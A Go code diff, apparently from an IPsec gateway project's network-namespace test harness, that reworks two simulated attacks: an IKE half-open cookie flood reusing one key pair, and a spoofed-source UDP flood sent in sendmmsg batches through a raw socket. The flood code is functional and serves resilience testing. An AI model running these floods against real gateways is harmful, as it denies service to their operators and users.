@@ -17,13 +17,16 @@ import (
 	"math/rand/v2"
 	"net"
 	"net/netip"
+	"runtime"
 	"sync"
 	"sync/atomic"
 	"syscall"
 	"time"
+	"unsafe"
 
 	"github.com/roamsec/roamsec/ike"
 	"github.com/roamsec/roamsec/test/netns"
+	"golang.org/x/sys/unix"
 )
 
 // Counts is what an attack did.
@@ -76,76 +79,92 @@ func (a *CookieAttack) Run(ctx context.Context, ns *netns.NS) error {
 		}
 		return err
 	}
+	// One key pair and nonce for every request (HalfOpenClient.Again) and
+	// one sender pacing them all, round robin over the addresses; a reader
+	// per address answers cookies and sends fragments. The attacker's
+	// cost is the gateway's to bear, not its own: no key generation and
+	// no timer per address.
+	tmpl, err := ike.NewHalfOpenClient(nil)
+	if err != nil {
+		for _, c := range conns {
+			c.Close()
+		}
+		return err
+	}
+	srcs := make([]*source, len(conns))
 	var wg sync.WaitGroup
-	per := max(a.Rate/len(conns), 1)
+	for i, c := range conns {
+		srcs[i] = &source{a: a, c: c, dst: net.UDPAddrFromAddrPort(netip.AddrPortFrom(a.Target, a.Port)), pending: map[uint64]*ike.HalfOpenClient{}}
+		wg.Go(srcs[i].read)
+	}
+	tick := time.NewTicker(10 * time.Millisecond)
+	defer tick.Stop()
+	var due float64
+	for n := 0; ctx.Err() == nil; {
+		select {
+		case <-ctx.Done():
+		case <-tick.C:
+			due += float64(a.Rate) / 100
+			for ; due >= 1; due-- {
+				sr := srcs[n%len(srcs)]
+				n++
+				hc := tmpl.Again()
+				sr.mu.Lock()
+				sr.pending[hc.SPIi] = hc
+				sr.mu.Unlock()
+				a.Counts.Sent.Add(1)
+				sr.send(hc.Request())
+			}
+		}
+	}
 	for _, c := range conns {
-		wg.Go(func() { a.source(ctx, c, per) })
+		c.Close()
 	}
 	wg.Wait()
 	return nil
 }
 
-// source runs one address: a sender paced at rate per second and a reader
-// answering cookies and sending fragments.
-func (a *CookieAttack) source(ctx context.Context, c *net.UDPConn, rate int) {
-	dst := net.UDPAddrFromAddrPort(netip.AddrPortFrom(a.Target, a.Port))
-	var mu sync.Mutex
-	pending := map[uint64]*ike.HalfOpenClient{}
-	send := func(b []byte) {
-		if a.Port == 4500 {
-			b = append([]byte{0, 0, 0, 0}, b...) // RFC 3948 non-ESP marker
+// source is one attacker address: its socket and the requests it waits
+// for an answer to.
+type source struct {
+	a       *CookieAttack
+	c       *net.UDPConn
+	dst     *net.UDPAddr
+	mu      sync.Mutex
+	pending map[uint64]*ike.HalfOpenClient
+}
+
+func (s *source) send(b []byte) {
+	if s.a.Port == 4500 {
+		b = append([]byte{0, 0, 0, 0}, b...) // RFC 3948 non-ESP marker
+	}
+	if _, err := s.c.WriteToUDP(b, s.dst); err != nil {
+		s.a.Counts.Errors.Add(1)
+	}
+}
+
+// read answers cookies and sends fragments until the socket closes.
+func (s *source) read() {
+	buf := make([]byte, 65536)
+	for {
+		n, _, err := s.c.ReadFromUDP(buf)
+		if err != nil {
+			return
 		}
-		if _, err := c.WriteToUDP(b, dst); err != nil {
-			a.Counts.Errors.Add(1)
+		msg := buf[:n]
+		if s.a.Port == 4500 && len(msg) >= 4 {
+			msg = msg[4:]
+		}
+		if len(msg) < 8 {
+			continue
+		}
+		s.mu.Lock()
+		hc := s.pending[binary.BigEndian.Uint64(msg)]
+		s.mu.Unlock()
+		if hc != nil {
+			s.a.answer(hc, msg, s.send, &s.mu, s.pending)
 		}
 	}
-	var wg sync.WaitGroup
-	wg.Go(func() {
-		buf := make([]byte, 65536)
-		for {
-			n, _, err := c.ReadFromUDP(buf)
-			if err != nil {
-				return
-			}
-			msg := buf[:n]
-			if a.Port == 4500 && len(msg) >= 4 {
-				msg = msg[4:]
-			}
-			if len(msg) < 8 {
-				continue
-			}
-			mu.Lock()
-			hc := pending[binary.BigEndian.Uint64(msg)]
-			mu.Unlock()
-			if hc == nil {
-				continue
-			}
-			a.answer(hc, msg, send, &mu, pending)
-		}
-	})
-	tick := time.NewTicker(10 * time.Millisecond)
-	defer tick.Stop()
-	var due float64
-	for ctx.Err() == nil {
-		select {
-		case <-ctx.Done():
-		case <-tick.C:
-			due += float64(rate) / 100
-			for ; due >= 1; due-- {
-				hc, err := ike.NewHalfOpenClient(nil)
-				if err != nil {
-					continue
-				}
-				mu.Lock()
-				pending[hc.SPIi] = hc
-				mu.Unlock()
-				a.Counts.Sent.Add(1)
-				send(hc.Request())
-			}
-		}
-	}
-	c.Close()
-	wg.Wait()
 }
 
 func (a *CookieAttack) answer(hc *ike.HalfOpenClient, msg []byte, send func([]byte), mu *sync.Mutex, pending map[uint64]*ike.HalfOpenClient) {
@@ -200,21 +219,32 @@ func (s *Spoof) Run(ctx context.Context, ns *netns.NS) error {
 		return err
 	}
 	defer syscall.Close(fd)
-	// Requests are built ahead (distinct SPIs): the spoofer spends its
-	// time sending, not on Diffie-Hellman.
+	// Requests are built ahead (distinct SPIs, one key pair): the spoofer
+	// spends its time sending, not on Diffie-Hellman.
 	reqs := make([][]byte, 512)
-	for i := range reqs {
-		hc, err := ike.NewHalfOpenClient(nil)
-		if err != nil {
-			return err
-		}
-		reqs[i] = hc.Request()
+	tmpl, err := ike.NewHalfOpenClient(nil)
+	if err != nil {
+		return err
 	}
-	dst := syscall.SockaddrInet4{Addr: s.Target.As4()}
+	for i := range reqs {
+		reqs[i] = tmpl.Again().Request()
+	}
+	// A tick's packets go out in sendmmsg calls of up to spoofBatch, as a
+	// real flooder's would: one system call per batch, not per packet.
+	dst := unix.RawSockaddrInet4{Family: unix.AF_INET, Addr: s.Target.As4()}
+	hdrs := make([]unix.Mmsghdr, spoofBatch)
+	iovs := make([]unix.Iovec, spoofBatch)
+	pkts := make([][]byte, spoofBatch)
+	for i := range hdrs {
+		pkts[i] = make([]byte, 0, 2048)
+		hdrs[i].Hdr.Name = (*byte)(unsafe.Pointer(&dst))
+		hdrs[i].Hdr.Namelen = unix.SizeofSockaddrInet4
+		hdrs[i].Hdr.Iov = &iovs[i]
+		hdrs[i].Hdr.Iovlen = 1
+	}
 	tick := time.NewTicker(10 * time.Millisecond)
 	defer tick.Stop()
 	var due float64
-	pkt := make([]byte, 0, 2048)
 	base := s.From.Masked().Addr().As4()
 	span := uint32(1) << (32 - s.From.Bits())
 	for n := 0; ctx.Err() == nil; {
@@ -222,19 +252,30 @@ func (s *Spoof) Run(ctx context.Context, ns *netns.NS) error {
 		case <-ctx.Done():
 		case <-tick.C:
 			due += float64(s.Rate) / 100
-			for ; due >= 1; due-- {
-				src := binary.BigEndian.Uint32(base[:]) + rand.Uint32N(span)
-				pkt = udp4(pkt[:0], src, s.Target.As4(), uint16(1024+rand.IntN(60000)), 500, reqs[n%len(reqs)])
-				n++
-				s.Counts.Sent.Add(1)
-				if err := syscall.Sendto(fd, pkt, 0, &dst); err != nil {
-					s.Counts.Errors.Add(1)
+			for due >= 1 {
+				k := 0
+				for ; k < spoofBatch && due >= 1; k, due = k+1, due-1 {
+					src := binary.BigEndian.Uint32(base[:]) + rand.Uint32N(span)
+					pkts[k] = udp4(pkts[k][:0], src, s.Target.As4(), uint16(1024+rand.IntN(60000)), 500, reqs[n%len(reqs)])
+					n++
+					iovs[k].Base = &pkts[k][0]
+					iovs[k].SetLen(len(pkts[k]))
 				}
+				sent, _, e := unix.Syscall6(unix.SYS_SENDMMSG, uintptr(fd), uintptr(unsafe.Pointer(&hdrs[0])), uintptr(k), 0, 0, 0)
+				if e != 0 {
+					sent = 0
+				}
+				s.Counts.Sent.Add(uint64(sent))
+				s.Counts.Errors.Add(uint64(k - int(sent)))
 			}
 		}
 	}
+	runtime.KeepAlive(&dst)
 	return nil
 }
+
+// spoofBatch is how many spoofed packets one sendmmsg takes.
+const spoofBatch = 64
 
 // udp4 writes an IPv4 header (the kernel fills in the checksum and ID of
 // an IP_HDRINCL packet) and a UDP header without checksum (RFC 768:
